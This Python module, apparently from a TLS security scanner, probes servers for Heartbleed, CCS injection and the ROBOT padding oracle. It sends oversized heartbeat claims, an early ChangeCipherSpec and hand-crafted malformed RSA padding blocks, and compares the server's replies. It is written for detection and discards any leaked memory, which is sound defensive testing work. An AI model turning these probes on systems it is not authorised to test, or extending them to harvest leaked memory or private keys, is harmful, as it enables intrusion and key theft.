"""Known attacks on TLS up to 1.2, tried without harm: each sends what a sound server refuses, and reads no more than tells.

What memory a server gives away is counted and dropped. A difference is claimed only where it shows itself again.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from types import MappingProxyType

from cryptography.hazmat.primitives.asymmetric import rsa

from shinsa.subject.device.tls.client import CLIENT_KEY_EXCHANGE, Begun, NoHandshake
from shinsa.subject.device.tls.invalid_curve import invalid_curve
from shinsa.subject.device.tls.oracle import REPEATS, told_apart
from shinsa.subject.device.tls.record_attacks import cbc_oracle, clear_records, loose_padding
from shinsa.subject.device.tls.records import (
    ALERT,
    CHANGE_CIPHER,
    HANDSHAKE,
    HEARTBEAT,
    HEARTBEATS,
    Hello,
    extension,
    sized,
    u16,
)
from shinsa.subject.device.tls.target import SILENCE, UNDECIPHERED, Target, Untold, reaction
from shinsa.subject.device.weakness import Weakness

CLAIMED = 32
"""Bytes that the heartbeat claims to hold, and does not: the fewest that cannot be an accident."""
IMPATIENT = 1.0
"""Seconds of waiting for what a sound server never says."""
_RECORDS = 8


def heartbleed(target: Target) -> Weakness | None:
    """CVE-2014-0160: a heartbeat that claims more than it holds is answered with what lies in memory behind it (RFC 6520, 4)."""
    hello = target.hello(lambda _: True, extension(HEARTBEATS, b"\1"))
    if hello is None:
        return None
    given = target.after(hello, _beat)
    if not given.startswith("heartbeat "):
        return None
    detail = f"a heartbeat without content that claimed {CLAIMED} bytes was answered with {given[10:]}"
    return Weakness("Heartbleed", "CVE-2014-0160", detail)


def _beat(begun: Begun) -> str:
    if HEARTBEATS not in begun.chosen.extensions:
        return "no heartbeats"
    begun.say(HEARTBEAT, b"\1" + u16(CLAIMED))
    for _ in range(_RECORDS):
        came = begun.line.next()
        if came is None or came.kind == ALERT:
            break
        if came.kind == HEARTBEAT and came.body[:1] == b"\2" and len(came.body) >= 3 + CLAIMED:
            return f"heartbeat {len(came.body) - 3}"
    return "nothing"


def early_change_cipher(target: Target) -> Weakness | None:
    """CVE-2014-0224: keys are put to use before there are any.

    What follows an early ChangeCipherSpec is then taken for encrypted; without one, the same bytes are not.
    """
    hello = target.hello(lambda _: True)
    if hello is None or target.after(hello, lambda begun: _garbled(begun, early=True)) not in UNDECIPHERED:
        return None
    if target.after(hello, lambda begun: _garbled(begun, early=False)) in UNDECIPHERED:
        return None
    if target.after(hello, _only_early) != SILENCE:
        return None
    detail = "a ChangeCipherSpec before the key exchange was accepted"
    return Weakness("CCS injection", "CVE-2014-0224", detail)


def _garbled(begun: Begun, *, early: bool) -> str:
    if early:
        begun.say(CHANGE_CIPHER, b"\1")
    begun.say(HANDSHAKE, b"\xff" * 64)
    return reaction(begun)


def _only_early(begun: Begun) -> str:
    begun.say(CHANGE_CIPHER, b"\1")
    return reaction(begun)


def robot(target: Target) -> Weakness | None:
    """ROBOT (Böck, Somorovsky, Young): a server that tells well-formed RSA padding from malformed is an oracle for its key. Raises Untold."""
    hello = target.hello(lambda name: name.startswith("TLS_RSA_WITH_"))
    if hello is None:
        return None
    untold = None
    # A DTLS server that serves one client at a time would wait for the rest of a handshake, deaf to all others.
    for whole in (False,) if target.datagrams else (True, False):
        try:
            seen = told_apart(partial(_answers, target, hello, whole=whole))
        except Untold as error:
            untold = error
            continue
        if seen is not None:
            told = "; ".join(f"{name}: {said}" for name, said in zip(_PADDINGS, seen, strict=True))
            return Weakness("ROBOT", "", f"answers differ by padding, {REPEATS} times over ({told})")
    if untold is not None:
        raise untold
    return None


def _answers(target: Target, hello: Hello, *, whole: bool) -> tuple[str, ...]:
    """The answer to each sort of padding; `whole` adds the messages that would end the handshake."""

    def ask(made: Callable[[int, int], bytes]) -> str:
        return target.after(hello, lambda begun: _padded(begun, made, whole=whole))

    if target.datagrams:
        return tuple(map(ask, _PADDINGS.values()))
    pool = ThreadPoolExecutor(max_workers=len(_PADDINGS), thread_name_prefix="robot")
    try:
        return tuple(pool.map(ask, _PADDINGS.values()))
    except Untold:
        # A small device may have no room for several connections: those that stand end first.
        pool.shutdown(cancel_futures=True)
        return tuple(map(ask, _PADDINGS.values()))
    finally:
        pool.shutdown(wait=False, cancel_futures=True)


def _padded(begun: Begun, made: Callable[[int, int], bytes], *, whole: bool) -> str:
    key = begun.key()
    if key is None:
        raise NoHandshake("no RSA key")
    block = sized(_encrypted(key, made, begun.wire_version), 2)
    begun.say(HANDSHAKE, begun.line.message(CLIENT_KEY_EXCHANGE, block))
    if whole:
        begun.say(CHANGE_CIPHER, b"\1")
        begun.say(HANDSHAKE, secrets.token_bytes(64))
    return reaction(begun, None if whole else IMPATIENT)


def _encrypted(key: rsa.RSAPublicKey, made: Callable[[int, int], bytes], version: int) -> bytes:
    """The bare RSA operation: no library pads wrongly when asked."""
    numbers, size = key.public_numbers(), (key.key_size + 7) // 8
    return pow(int.from_bytes(made(size, version), "big"), numbers.e, numbers.n).to_bytes(size, "big")


def _filled(size: int) -> bytes:
    return bytes(byte or 1 for byte in secrets.token_bytes(size))


_PADDINGS: Mapping[str, Callable[[int, int], bytes]] = MappingProxyType(
    {
        "well-formed": lambda size, version: (
            b"\0\2" + _filled(size - 51) + b"\0" + u16(version) + secrets.token_bytes(46)
        ),
        "wrong beginning": lambda size, _: b"\0\x17" + _filled(size - 2),
        "no end of the padding": lambda size, _: b"\0\2" + _filled(size - 2),
        "secret too short": lambda size, version: b"\0\2" + _filled(size - 6) + b"\0" + u16(version) + b"\1",
        "wrong version": lambda size, _: b"\0\2" + _filled(size - 51) + b"\0\2\2" + secrets.token_bytes(46),
    }
)
"""The encrypted blocks by what is wrong with them (PKCS #1 v1.5, 7.2; RFC 5246, 7.4.7.1), from key size and version."""


Attack = Callable[[Target], Weakness | None]
"""Raises Untold where the server's conduct does not tell."""
_ANYWHERE: Mapping[str, Attack] = MappingProxyType(
    {
        "Heartbleed": heartbleed,
        "ROBOT": robot,
        "invalid curve": invalid_curve,
        "POODLE on TLS": loose_padding,
        "CBC oracle": cbc_oracle,
    }
)


def attacks_on(target: Target) -> Mapping[str, Attack]:
    """Every attack that can be tried on a server, by its name.

    The epochs of DTLS tell what is sealed: an early ChangeCipherSpec is no known attack on it, and records in the clear are.
    """
    own: dict[str, Attack] = (
        {"clear records": clear_records} if target.datagrams else {"CCS injection": early_change_cipher}
    )
    return {**_ANYWHERE, **own}
